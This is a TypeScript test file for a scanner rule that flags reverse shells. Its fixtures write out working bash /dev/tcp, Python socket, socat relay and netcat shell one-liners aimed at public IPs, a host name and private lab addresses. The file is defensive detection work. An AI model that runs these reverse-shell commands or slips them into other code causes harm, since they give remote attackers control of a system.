import { describeProbes, type ThreatProbe } from './helpers.ts';

/**
 * A remote shell to an address of a private network (RFC 1918: a lab VPN's `10.10.14.x`, a host-only `192.168.56.x`)
 * reaches no one outside the user's own network or lab, as penetration-test guides write it: a warning, like a
 * placeholder host. A public address (also beside a private one in the same block), a name, or a relay in the same code that
 * carries the connection on is still a remote shell for someone else.
 */
const DESCRIPTION = 'Reference for reverse shells during authorised penetration tests. Use on an engagement in a lab.';

const remote: ThreatProbe[] = [
  { what: 'bash /dev/tcp shell to a public address', description: DESCRIPTION, language: 'bash',
    body: "bash -c 'bash -i >& /dev/tcp/185.220.101.7/4444 0>&1'", at: '8:1' },
  { what: 'python socket shell to a host name', description: DESCRIPTION, language: 'bash',
    body: 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("relay.shell-catch.net",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'', at: '8:1' },
  { what: 'bash shells to a private and a public address in one block: the public one is the error', description: DESCRIPTION, language: 'bash',
    body: ['bash -i >& /dev/tcp/10.10.14.5/4444 0>&1', 'bash -i >& /dev/tcp/45.33.32.156/4444 0>&1'], at: '9:1' },
  { what: 'bash shell to a private address with a socat relay carrying it on', description: DESCRIPTION, language: 'bash',
    body: ['socat TCP-LISTEN:4444,fork TCP:45.33.32.156:443 &', 'bash -i >& /dev/tcp/192.168.1.20/4444 0>&1'], at: '9:1' },
];

const lab: ThreatProbe[] = [
  { what: 'bash /dev/tcp shell to a lab VPN address', description: DESCRIPTION, language: 'bash',
    body: "bash -c 'bash -i >& /dev/tcp/10.10.14.5/4444 0>&1'", also: ['threat/reverse-shell 8:1 warning'] },
  { what: 'python socket shell to a host-only network address', description: DESCRIPTION, language: 'bash',
    body: 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.168.56.10",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'', also: ['threat/reverse-shell 8:1 warning'] },
  { what: 'netcat listener and a shell to a 172.16 lab address in one block', description: DESCRIPTION, language: 'bash',
    body: ['nc -lvnp 4444 &', 'bash -i >& /dev/tcp/172.16.5.2/4444 0>&1'], also: ['threat/reverse-shell 9:1 warning'] },
];

describeProbes('threat/reverse-shell: shells to public hosts, names, or relayed on stay errors', remote, 'caught errors', 'threat/reverse-shell');
describeProbes('threat/reverse-shell: shells to a private lab address are warnings', lab, 'clean of errors');
